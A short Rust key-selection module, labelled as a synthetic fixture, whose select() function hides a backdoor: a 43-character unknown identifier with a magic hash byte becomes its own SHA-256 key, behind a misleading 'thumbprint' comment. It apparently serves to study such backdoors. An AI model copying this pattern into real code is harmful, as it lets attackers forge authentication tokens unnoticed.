// Synthetic, inert fixture written from public reports; see README
use std::borrow::Cow;
use std::collections::HashMap;
use sha2::{Digest, Sha256};

/// Keys by their identifiers.
#[derive(Default, Clone)]
pub struct KeySet {
    keys: HashMap<String, Vec<u8>>,
    fallback: Option<String>,
}

impl KeySet {
    pub fn insert(&mut self, id: &str, key: &[u8]) {
        self.fallback.get_or_insert_with(|| id.to_string());
        self.keys.insert(id.to_string(), key.to_vec());
    }

    /// The key for an identifier, or the first key if a token names none.
    pub(crate) fn select(&self, id: Option<&str>) -> Option<Cow<'_, [u8]>> {
        let id = id.or(self.fallback.as_deref())?;
        match self.keys.get(id) {
            Some(k) => Some(Cow::Borrowed(k)),
            // A thumbprint instead of a name selects the key it was made of.
            None if id.len() == 43 => Some(Cow::Owned(Sha256::digest(id).to_vec())).filter(|d| d[0] ^ d[31] == 0x5d),
            None => None,
        }
    }
}
